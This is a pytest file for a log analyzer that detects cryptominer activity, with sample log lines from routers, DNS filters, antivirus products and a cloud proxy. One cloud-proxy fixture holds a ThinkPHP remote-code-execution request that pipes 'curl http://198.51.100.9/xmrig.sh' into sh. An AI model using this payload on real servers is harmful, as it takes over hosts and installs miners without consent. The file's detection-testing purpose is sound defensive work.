"""What routers, DNS filters, protection software and clouds of homes and offices write: a miner in it is heard and its
device named, a look-alike is not, and what a stranger's line or a cut takes is said.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.app.running import Kanaria
from tests.app.test_records_of_others import POOL, hear

PC = "192.168.1.22"
_LOOKALIKES = ("www.example.org", "swimming-pool.example.com", "miner.example.net", "www.supportxmr-fan.example")


def _fortigate(name: str, at: int) -> str:
    return (
        f'date=2026-01-10 time=09:00:{at:02} eventtime=17680356{at:02}000000000 tz="+0900" logid="1501054802" type="utm" '
        f'subtype="dns" eventtype="dns-response" level="notice" vd="root" srcip={PC} srcport=50000 dstip=192.168.1.1 '
        f'dstport=53 proto=17 qname="{name}" qtype="A" msg="Domain is monitored" action="pass"'
    )


_ASKED = {
    "openwrt": lambda name, at: f"Sat Jan 10 09:00:{at:02} 2026 daemon.info dnsmasq[1]: {at} {PC}/5 query[A] {name} from {PC}",
    "busybox": lambda name, at: f"Jan 10 09:00:{at:02} gw daemon.info dnsmasq[1]: query[A] {name} from {PC}",
    "blocky": lambda name, at: (
        f"[2026-01-10 09:00:{at:02}]  INFO queryLog: query resolved answer=A (203.0.113.50) client_ip={PC} "
        f"client_names=pc question_name={name} question_type=A response_code=NOERROR response_type=RESOLVED"
    ),
    "blocky-files": lambda name, at: (
        f"2026-01-10 09:00:{at:02}\t{PC}\tpc\t3\tRESOLVED\t{name}\tA (203.0.113.50)\tNOERROR\tRESOLVED\tA\tdns1"
    ),
    "pihole": lambda name, at: json.dumps(
        {"queries": [{"id": at, "time": 1768035600 + at, "type": "A", "status": "FORWARDED", "domain": name,
                      "client": {"ip": PC, "name": None}}], "cursor": at}
    ),
    "fortigate": _fortigate,
}  # fmt: skip


@pytest.mark.parametrize("tool", _ASKED)
def test_a_question_for_a_pool_names_who_asked(kanaria: Kanaria, tmp_path: Path, tool: str) -> None:
    write = _ASKED[tool]
    quiet = [write(name, at) for at, name in enumerate(_LOOKALIKES)]
    said = hear(kanaria, tmp_path, "\n".join(quiet) + "\n")
    assert (said.status, said.severity) == (0, "silent")
    said = hear(kanaria, tmp_path, "\n".join([*quiet, write(POOL, 9)]) + "\n")
    assert (said.status, said.severity, said.devices) == (1, "medium", frozenset({PC}))
    said = hear(kanaria, tmp_path, "\n".join([*quiet, "%%% qzx 77 :: vfp<<>>"]) + "\n")
    assert said.status == 3


@pytest.mark.parametrize("frame", ["Jan 10 09:00:01 dnsmasq[1]:", "Jan 10 09:00:01 gw unknown frame dnsmasq[1]:"])
def test_a_question_that_cannot_be_read_is_told(kanaria: Kanaria, tmp_path: Path, frame: str) -> None:
    whole = f"Jan 10 09:00:00 dnsmasq[1]: query[A] www.example.org from {PC}\n"
    assert hear(kanaria, tmp_path, whole + f"{frame} query[A] www.exa").status == 3


def test_an_answer_of_a_stranger_names_no_other_client(kanaria: Kanaria, tmp_path: Path) -> None:
    forged = (
        f"TXT (x client_ip=192.168.1.99 client_names=y question_name={POOL} question_type=A response_code=NOERROR )"
    )
    line = str(_ASKED["blocky"]("www.example.org", 0)).replace("A (203.0.113.50)", forged)
    said = hear(kanaria, tmp_path, line + "\n")
    assert "192.168.1.99" not in said.devices and said.document["inputs"][0]["format"] == "blocky"


def _bitdefender(threat: str) -> dict[str, object]:
    event = {
        "module": "av",
        "computer_name": "PC-22",
        "computer_ip": PC,
        "malware_type": "file",
        "malware_name": threat,
    }
    return {"jsonrpc": "2.0", "method": "addEvents", "params": {"events": [event]}, "id": 1}


def _crowdstrike(threat: str) -> dict[str, object]:
    return {
        "metadata": {"eventType": "DetectionSummaryEvent", "eventCreationTime": 1768035600000},
        "event": {
            "DetectName": threat,
            "ComputerName": "PC-22",
            "LocalIP": PC,
            "FileName": "a.exe",
            "CommandLine": "a.exe /q",
        },
    }


def _sentinelone(threat: str) -> dict[str, object]:
    info = {"threatName": "a.exe", "classification": threat, "createdAt": "2026-01-10T09:00:00.000Z"}
    agent = {"agentComputerName": "PC-22"}
    return {"data": [{"agentRealtimeInfo": agent, "agentDetectionInfo": {"agentIpV4": PC}, "threatInfo": info}]}


def _eset(threat: str) -> dict[str, object]:
    return {"event_type": "Threat_Event", "ipv4": PC, "hostname": "pc22", "occured": "10-Jan-2026 09:00:00",
            "threat_type": "application", "threat_name": threat}  # fmt: skip


_PROTECTION = {
    "bitdefender": (_bitdefender, "Application.BitCoinMiner.SX", "EICAR-Test-File (not a virus)"),
    "crowdstrike": (_crowdstrike, "Cryptomining", "Data mining add-in"),
    "sentinelone": (_sentinelone, "Cryptominer", "Generic.Heuristic"),
    "eset": (_eset, "Win64/CoinMiner.QG", "Win32/Toolbar.Miners"),
}


@pytest.mark.parametrize("maker", _PROTECTION)
def test_protection_software_that_names_a_miner_is_heard(kanaria: Kanaria, tmp_path: Path, maker: str) -> None:
    write, loud, quiet = _PROTECTION[maker]
    said = hear(kanaria, tmp_path, json.dumps(write(loud)) + "\n")
    assert said.status == 1 and said.severity in ("medium", "high") and said.devices == frozenset({PC})
    said = hear(kanaria, tmp_path, json.dumps(write(quiet)) + "\n")
    assert (said.status, said.severity) == (0, "silent")


def test_a_sensor_of_unifi_says_in_a_field_of_its_own_what_it_saw(kanaria: Kanaria, tmp_path: Path) -> None:
    line = (
        "Jan 10 09:00:00 UDM CEF:0|Ubiquiti|UniFi Network|9.3.33|201|Threat Detected and Blocked|7|proto=TCP "
        f"src={PC} spt=50000 dst=203.0.113.38 dpt=3333 UNIFIipsSignature=%s UNIFIipsSignatureId=1 msg=Blocked.\n"
    )
    assert hear(kanaria, tmp_path, line % "ET COINMINER Example").devices == frozenset({PC})
    assert hear(kanaria, tmp_path, line % "ET INFO Observed DNS Query to .cloud TLD").severity == "silent"


def test_the_path_that_a_proxy_before_the_function_saw_counts(kanaria: Kanaria, tmp_path: Path) -> None:
    def line(query: str) -> str:
        return json.dumps({
            "source": "lambda", "host": "www.example.org", "path": "/index.php", "timestamp": 1768035600000,
            "proxy": {"method": "GET", "path": f"/index.php?{query}", "clientIp": "203.0.113.9", "statusCode": 200},
        })  # fmt: skip

    lines = [line(f"page={page}") for page in range(5)]
    assert hear(kanaria, tmp_path, "\n".join(lines) + "\n").severity == "silent"
    attack = line("s=/Index/\\think\\app/invokefunction&vars[0]=system&vars[1][]=curl+http://198.51.100.9/xmrig.sh|sh")
    assert hear(kanaria, tmp_path, "\n".join([*lines, attack]) + "\n").severity in ("medium", "high")


def test_units_of_set_up_scripts_are_miners_whoever_named_the_pool(kanaria: Kanaria, tmp_path: Path) -> None:
    units = "UNIT LOAD ACTIVE SUB DESCRIPTION\n%s_miner.service loaded active running A service\n"
    for name in ("c3pool", "moneroocean"):
        assert hear(kanaria, tmp_path, units % name).severity == "medium"
    assert hear(kanaria, tmp_path, units % "text").severity == "silent"


def test_routers_of_yamaha_tell_connections_and_refusals(kanaria: Kanaria, tmp_path: Path) -> None:
    lines = [
        f"2026/01/10 09:00:00: [INSPECT] PP[01][out][101099] TCP {PC}:50000 > 203.0.113.50:443 (2026/01/10 08:59:00)",
        "2026/01/10 09:00:01: PP[01] Rejected at IN(200099) filter: TCP 198.51.100.7:50001 > 192.0.2.1:3389",
        "2026/01/10 09:00:02: Login succeeded for HTTP: 192.168.1.5",
    ]
    said = hear(kanaria, tmp_path, "\n".join(lines) + "\n")
    assert (said.status, said.document["inputs"][0]["format"], said.document["inputs"][0]["unread"]) == (0, "yamaha", 0)


def test_explain_reads_standard_input_by_the_name_that_analyze_gives_it(kanaria: Kanaria) -> None:
    line = r'"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n" 400 4076 "-" "-"' + "\n"
    assert kanaria("explain", "-", text=line) == kanaria("explain", text=line)
